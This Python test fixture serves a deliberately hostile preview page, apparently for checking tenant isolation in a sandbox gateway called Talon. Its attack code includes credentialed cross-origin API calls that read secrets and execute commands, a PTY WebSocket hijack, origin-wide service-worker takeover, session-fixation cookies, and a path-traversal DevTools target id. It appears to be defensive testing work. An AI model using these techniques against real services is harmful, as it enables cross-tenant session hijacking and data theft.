"""A hostile page, served by tenant B's sandbox: `hostile-page.py PORT
[VICTIM]`, on a preview's port or on the browser's DevTools port in
place of Chromium. At every path its page tries every way a page could
act with the visitor's Talon session (fetch, an iframe or a popup of the
API, the PTY WebSocket, a service worker over the whole origin, the
session cookie itself, a cookie planted on the API's paths, unless the
query says `keep=1`) and leaves what it got in `window.results`; `document.title` turns `done` when it
has finished. `/json/list` answers as DevTools would, but with a target
whose id climbs out of the CDP proxy's prefix to VICTIM's PTY (what the
live view would open with the visitor's session)."""
import json
import sys
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PAGE = r"""<!doctype html><meta charset="utf-8"><title>running</title>
<script>
const q = new URLSearchParams(location.search);
const victim = q.get("victim");
const api = q.get("api");            // the gateway's own origin, e.g. http://127.0.0.1:8080
const results = {};
async function attempt(name, f) {
  try { results[name] = { ok: true, value: await f() }; }
  catch (e) { results[name] = { ok: false, error: String(e) }; }
}
function within(ms, p) {
  return Promise.race([p, new Promise((_, rej) => setTimeout(() => rej(new Error("timeout")), ms))]);
}
async function read(url, init) {
  const r = await fetch(url, Object.assign({ credentials: "include" }, init || {}));
  return { status: r.status, body: (await r.text()).slice(0, 2000) };
}
(async () => {
  results.origin = String(self.origin);
  // The preview's own subresources still load (its cookie is sent).
  await attempt("own", () => within(3000, new Promise((res, rej) => {
    const el = document.createElement("script");
    el.src = "own.js";
    el.onload = () => res(String(window.ownLoaded));
    el.onerror = () => rej(new Error("own.js did not load"));
    document.head.appendChild(el);
  })));
  // Every call names the API's origin (in path mode, the page's own URL's).
  await attempt("list", () => read(api + "/v1/sandboxes"));
  await attempt("readFile", () => read(api + `/v1/sandboxes/${victim}/files:read?path=secret.txt`));
  await attempt("exec", () => read(api + `/v1/sandboxes/${victim}/processes`, {
    method: "POST", headers: { "content-type": "application/json" },
    body: JSON.stringify({ command: ["sh", "-c", "echo pwned > /workspace/pwned.txt"] }),
  }));
  await attempt("cookie", () => document.cookie);
  await attempt("iframe", () => within(3000, new Promise((res, rej) => {
    const f = document.createElement("iframe");
    f.src = api + "/v1/sandboxes";
    f.onload = () => { try { res(f.contentDocument.body.innerText.slice(0, 2000)); } catch (e) { rej(e); } };
    document.body.appendChild(f);
  })));
  await attempt("popup", () => within(3000, new Promise((res, rej) => {
    const w = window.open(api + "/v1/sandboxes");
    if (!w) return rej(new Error("no window"));
    setTimeout(() => { try { res(w.document.body.innerText.slice(0, 2000)); } catch (e) { rej(e); } finally { w.close(); } }, 1500);
  })));
  await attempt("pty", () => within(4000, new Promise((res, rej) => {
    const ws = new WebSocket(api.replace(/^http/, "ws") + `/v1/sandboxes/${victim}/pty`);
    let got = "";
    ws.binaryType = "arraybuffer";
    ws.onopen = () => ws.send(JSON.stringify({ open: { command: { command: ["sh", "-c", "cat /workspace/secret.txt"] } } }));
    ws.onmessage = (m) => { got += typeof m.data === "string" ? m.data : new TextDecoder().decode(m.data); };
    ws.onclose = (e) => got ? res(got) : rej(new Error("closed " + e.code));
    ws.onerror = () => rej(new Error("websocket error"));
  })));
  await attempt("serviceWorker", async () => {
    const reg = await within(3000, navigator.serviceWorker.register("sw.js", { scope: "/" }));
    return reg.scope;
  });
  document.title = "done";
})();
</script>
<body>hostile preview</body>
"""

SW = "self.addEventListener('fetch', (e) => e.respondWith(new Response('owned by a preview')));"


class H(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *a):
        pass

    def send(self, ctype, body, extra=()):
        body = body.encode()
        self.send_response(200)
        self.send_header("content-type", ctype)
        self.send_header("content-length", str(len(body)))
        for k, v in extra:
            self.send_header(k, v)
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        path = self.path.partition("?")[0]
        if path.endswith("/json/list") and VICTIM:
            target = {"type": "page", "url": "about:blank", "title": "hostile",
                      "id": f"../../../../../v1/sandboxes/{VICTIM}/pty"}
            return self.send("application/json", json.dumps([target]))
        if path.endswith("/own.js"):
            return self.send("text/javascript", "window.ownLoaded = true;")
        if path.endswith("/sw.js") or path == "/sw.js":
            return self.send("text/javascript", SW, [("service-worker-allowed", "/")])
        # Plants cookies on the API's paths: a session of the attacker's
        # (fixation) and one that would shadow it; with `keep=1`, none, so
        # that the page's calls go with the visitor's own session.
        planted = [
            ("set-cookie", "__Host-talon-session=planted-by-preview; Path=/; Secure; HttpOnly; SameSite=Lax"),
            ("set-cookie", "planted=1; Path=/v1; SameSite=Lax"),
            ("set-cookie", "wide=1; Path=/; Domain=127.0.0.1"),
        ]
        keep = "keep=1" in self.path.partition("?")[2].split("&")
        self.send("text/html", PAGE, [] if keep else planted)


VICTIM = sys.argv[2] if len(sys.argv) > 2 else None

if __name__ == "__main__":
    # On the DevTools port, the browser it replaces may take a moment to
    # let the port go.
    for attempt in range(100):
        try:
            srv = ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), H)
            break
        except OSError:
            if attempt == 99:
                raise
            time.sleep(0.1)
    print("ready", flush=True)
    srv.serve_forever()
